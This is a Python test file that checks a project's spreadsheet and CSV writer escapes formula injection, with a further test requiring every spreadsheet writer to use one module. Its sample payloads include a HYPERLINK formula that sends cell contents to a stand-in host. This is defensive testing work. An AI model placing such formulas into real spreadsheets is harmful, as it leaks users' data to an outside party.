import io
import re
from pathlib import Path

from chibo.core.spreadsheets import append_row, csv_writer, safe_cell, workbook

INJECTIONS = ['=HYPERLINK("http://x/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_formula_starts_become_text():
    for value in INJECTIONS:
        assert safe_cell(value) == "'" + value
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell(12) == 12
    assert safe_cell(None) is None


def test_csv_rows_are_escaped():
    out = io.StringIO()
    csv_writer(out).writerow(["Nguyễn Văn An", INJECTIONS[0], 3])
    assert out.getvalue().startswith("Nguyễn Văn An,\"'=HYPERLINK(")


def test_workbook_rows_are_escaped():
    from openpyxl import load_workbook

    book = workbook()
    sheet = book.active
    append_row(sheet, [INJECTIONS[0], "an"])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + INJECTIONS[0]


# Writers of files meant for people; COPY … FORMAT csv streams between databases are not files
# people open and are not matched by these patterns.
_WRITER = re.compile(r"\bcsv\.writer\(|\bWorkbook\(")
_ALLOWED = {Path("chibo/core/spreadsheets.py")}


def test_every_spreadsheet_goes_through_the_one_writer():
    root = Path(__file__).resolve().parents[3]
    offenders = [
        str(path.relative_to(root))
        for path in sorted((root / "chibo").rglob("*.py"))
        if "tests" not in path.parts
        and path.relative_to(root) not in _ALLOWED
        and _WRITER.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
